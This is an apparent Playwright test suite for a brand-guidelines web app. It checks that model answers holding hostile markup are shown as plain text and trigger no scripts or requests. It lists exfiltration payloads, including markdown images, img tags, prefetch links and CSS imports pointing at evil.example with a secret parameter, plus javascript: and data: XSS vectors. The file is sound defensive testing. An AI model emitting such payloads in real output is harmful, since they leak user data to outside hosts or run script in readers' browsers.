import type { FunctionName } from '@brandwright/domain/guidelines/results'
import { expect, type Page } from '@playwright/test'
import { type FunctionAnswer, sampleAnswer } from '../apps/server/src/testing/function-models.ts'
import { makeBrand } from './support/hand-made-brand.ts'
import { hostileMaterial, hostileStrings, inTurn } from './support/hostile-strings.ts'
import { test } from './support/model-test.ts'
import { openScreen } from './support/open-screen.ts'
import { signInAsSuper } from './support/super-admin.ts'
import { liveMarkup, watchForScripts } from './support/watch-for-scripts.ts'

test.skip(!hostileMaterial, 'The hostile material is not beside the repository.')

const STOLEN = 'https://evil.example/?words=secret'
const EXFILTRATION = [
  `![a cup](${STOLEN})`,
  `[![a cup](${STOLEN})](${STOLEN})`,
  `![a cup][1]\n\n[1]: ${STOLEN}`,
  `<img src="${STOLEN}">`,
  `<link rel="prefetch" href="${STOLEN}"><style>@import "${STOLEN}"</style>`,
  `| a |\n|---|\n| ![](${STOLEN}) |`,
  '[press](javascript:alert(1)) <a href="javascript:alert(1)">press</a> [press](data:text/html,<script>alert(1)</script>)',
]
const BATCH_SIZE = 60
/** Tests every STEP-th string. `hostile-answers.test.tsx` covers the other strings without a browser. */
const STEP = process.env.TEST_ALL === '1' ? 2 : 12
/** Maximum length in characters of a string to test. Longer strings cover nothing new. */
const MAX_LENGTH = 1_000

const strings = () => hostileStrings().filter((text) => text.length <= MAX_LENGTH && /<|javascript:|\]\(/i.test(text))
/** Returns the strings, sorted so that those with a code fence come last, because an unclosed fence would hide all strings after it. */
function answers(): string[] {
  const all = [...EXFILTRATION, ...strings().filter((_, index) => index % STEP === 0)].sort((a, b) => Number(/```|~~~/.test(a)) - Number(/```|~~~/.test(b)))
  return Array.from({ length: Math.ceil(all.length / BATCH_SIZE) }, (_, at) => all.slice(at * BATCH_SIZE, (at + 1) * BATCH_SIZE).join('\n\n'))
}

/** Returns a model whose text results consist only of hostile strings. */
function spoiled(next: (maxLength: number) => string) {
  const spoil = (value: unknown): unknown => {
    if (typeof value === 'string') return next(MAX_LENGTH)
    if (Array.isArray(value)) return value.map(spoil)
    return value && typeof value === 'object' ? Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, spoil(inner)])) : value
  }
  return (name: FunctionName): FunctionAnswer => {
    if ((name as string) === 'judge_rules')
      return { arguments: JSON.stringify({ answers: [{ rule: 1, keeps: false, words: 'luxury', why: next(MAX_LENGTH), better: next(MAX_LENGTH) }] }) }
    return { arguments: JSON.stringify(spoil(JSON.parse((sampleAnswer(name) as { arguments: string }).arguments))) }
  }
}

/** Dispatches pointer, focus and load events on all elements. */
const touchAll = (page: Page, within: string) =>
  page.locator(within).evaluateAll((parts) => {
    for (const element of parts.flatMap((part) => [...part.querySelectorAll('*')]))
      for (const type of ['mouseover', 'mouseenter', 'focus', 'load', 'error']) element.dispatchEvent(new Event(type, { bubbles: true }))
  })

test('model answers on the testing screen run no code and send no requests', { tag: '@once' }, async ({ page, context, baseURL, models }) => {
  const ran = watchForScripts(context)
  await signInAsSuper(page, baseURL)
  const { id } = await makeBrand(page, baseURL, { name: 'Fern Street Bakery' })
  const found: string[] = []
  const ask = async () => {
    await page.getByRole('button', { name: 'Send' }).click()
    await expect(page.getByRole('region', { name: 'Answer' }).getByText('Complete', { exact: true })).toBeVisible()
    await touchAll(page, 'main')
    found.push(...(await liveMarkup(page)))
  }
  for (const [at, path] of ['/admin/:id/testing', '/admin/:id/testing/v1'].entries()) {
    await openScreen(page, path, { id })
    await page.getByLabel('Message', { exact: true }).fill('What does this brand sell?')
    for (const content of answers().filter((_, index) => at === 0 || index === 0)) {
      models.answers(() => ({ content }))
      await ask()
      // The strings must appear as plain text.
      await expect(page.getByRole('region', { name: 'Answer' })).toContainText(/<|javascript:|\(|a cup/)
    }
    models.answers(() => ({ arguments: JSON.stringify({ text: strings().slice(0, 100) }) }))
    await ask()
  }
  expect(found).toEqual([])
  expect(ran).toEqual([])
})

test('model output in guidelines runs no code for members or shared-link readers', { tag: ['@once', '@all'] }, async ({ page, context, baseURL, models }) => {
  const ran = watchForScripts(context)
  await signInAsSuper(page, baseURL)
  const texts = inTurn([...EXFILTRATION, ...strings()])
  const { id, send } = await makeBrand(page, baseURL, { name: texts.next(200), description: texts.next(1000) })
  const found: string[] = []
  const look = async () => {
    await touchAll(page, 'main, [role=dialog]')
    found.push(...(await liveMarkup(page)))
  }
  models.answers(spoiled(texts.next))
  for (let round = 0; round < 2; round++) {
    const { runId } = await send<{ runId: string }>('POST', './guidelines/generate', { refresh: true })
    await page.request.get(`/api/runs/${runId}/events`)
  }
  await openScreen(page, '/admin/:id/brand-voice', { id })
  await expect(page.getByRole('region', { name: 'Try it' })).toBeVisible()
  await page.locator('details').evaluateAll((all) => {
    for (const one of all as HTMLDetailsElement[]) one.open = true
  })
  await look()
  // A form replaces the button that opened it.
  const edits = page.getByRole('button', { name: /^Edit (?!“)/ })
  const forms = await edits.count()
  expect(forms).toBeGreaterThan(5)
  for (let opened = 0; opened < forms; opened++) await edits.first().click()
  await expect(edits).toHaveCount(0)
  await look()
  await page.reload()
  await page.getByLabel('Text to check').fill(`This luxury coffee. ${texts.next(MAX_LENGTH)}`)
  await page.getByRole('button', { name: 'Check', exact: true }).click()
  await expect(page.getByRole('region', { name: 'Try it' }).getByText(/of 100\./)).toBeVisible()
  await look()
  await page.getByRole('button', { name: 'Versions', exact: true }).click()
  await expect(page.getByRole('dialog')).toBeVisible()
  await look()

  const { link } = await send<{ link: string }>('POST', './share-links', { name: 'Shared' })
  for (const path of [`/styleGuide/${id}`, `/admin/${id}/images`, new URL(link, baseURL).pathname]) {
    await page.goto(path)
    await expect(page.getByRole('heading', { level: 1 }).first(), path).toBeVisible()
    await look()
  }
  expect(found).toEqual([])
  expect(ran).toEqual([])
})

test('the script monitor detects hostile model answers that are rendered as markup', { tag: ['@once', '@all'] }, async ({ page, context, provokes }) => {
  // Expects problems of any kind, because hostile markup can cause all of them.
  provokes(/./)
  const ran = watchForScripts(context)
  // Strings that navigate or rewrite the page would hide the effects of the other strings.
  const acting = strings().filter((text) => /<(?:img|svg|script|body|video|audio)\b[^>]*alert\(/i.test(text) && !/location|document\.write/i.test(text))
  const body = `<!doctype html><title>Raw</title><img src="${STOLEN}">${acting.slice(0, 60).join('\n')}`
  await page.route('**/raw', (route) => route.fulfill({ contentType: 'text/html', body }))
  await page.goto('/raw')
  await expect.poll(() => ran.filter((one) => one.startsWith('dialog')).length).toBeGreaterThan(0)
  await expect.poll(() => ran).toContain(`request: ${STOLEN}`)
  expect((await liveMarkup(page)).length).toBeGreaterThan(5)
})
